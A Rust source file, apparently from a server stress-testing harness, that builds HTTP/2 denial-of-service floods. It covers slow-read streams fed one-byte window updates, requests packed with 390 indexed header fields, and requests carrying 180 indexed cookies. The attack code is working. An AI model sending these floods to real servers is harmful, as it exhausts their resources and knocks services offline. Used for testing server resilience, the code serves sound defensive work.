//! Attacks with many requests of one connection of HTTP/2: responses that are received byte by byte, and heads with
//! many compressed fields.

use super::http2::{FLOOD_LEN, flood, per_megabyte, per_request, send_gets};
use super::{Attacker, Row};
use crate::Result;
use crate::frames::{
    INITIAL_WINDOW_SIZE, WINDOW_UPDATE, opening, push_frame, push_indexed_field, push_request, request_fields,
};

/// The rows of this family.
pub const ROWS: &[Row] = &[
    per_megabyte("http2-increments", "100 documents, each received byte by byte", |attacker| {
        receive_slowly(attacker, 1)
    }),
    per_megabyte("http2-increments-7", "100 documents, each received in pieces of 7 bytes", |attacker| {
        receive_slowly(attacker, 7)
    }),
    per_megabyte("http2-rejected-fields", "heads with 390 indexed fields each", |attacker| {
        let mut bytes = opening(&[]);
        push_frame(&mut bytes, WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes());
        let prefix = request_fields("GET", "/healthz", &[]);
        let mut stream = 1;
        while bytes.len() < FLOOD_LEN {
            // 0x90 is the field 16 of the static table, `accept-encoding: gzip, deflate`.
            push_request(&mut bytes, stream, false, &[&prefix[..], &[0x90; 390]].concat());
            stream += 2;
        }
        flood(attacker, &bytes)
    }),
    per_request("http2-many-cookies", "GET /healthz with 180 indexed cookies, all read", |attacker| {
        send_gets(attacker, &[], &fields_with_cookies(180), 5_000)
    }),
];

/// Requests 100 documents, and permits the server to send a few bytes of each of them in turn.
fn receive_slowly(attacker: &mut Attacker<'_>, increment: u32) -> Result<()> {
    const STREAMS: u32 = 100;
    let mut bytes = opening(&[(INITIAL_WINDOW_SIZE, 0)]);
    for number in 0..STREAMS {
        push_request(&mut bytes, 2 * number + 1, false, &request_fields("GET", "/openapi.json", &[]));
    }
    let mut number = 0;
    while bytes.len() < FLOOD_LEN {
        push_frame(&mut bytes, WINDOW_UPDATE, 0, 2 * (number % STREAMS) + 1, &increment.to_be_bytes());
        number += 1;
    }
    flood(attacker, &bytes)
}

/// Returns the fields of a request with this number of cookies. Each is a byte that refers to the table of the
/// connection, to which each request adds the cookie again.
fn fields_with_cookies(count: usize) -> Vec<u8> {
    let mut fields = request_fields("GET", "/healthz", &[]);
    push_indexed_field(&mut fields, "cookie", "a=b");
    fields.extend_from_slice(&vec![0xbe; count - 1]);
    fields
}
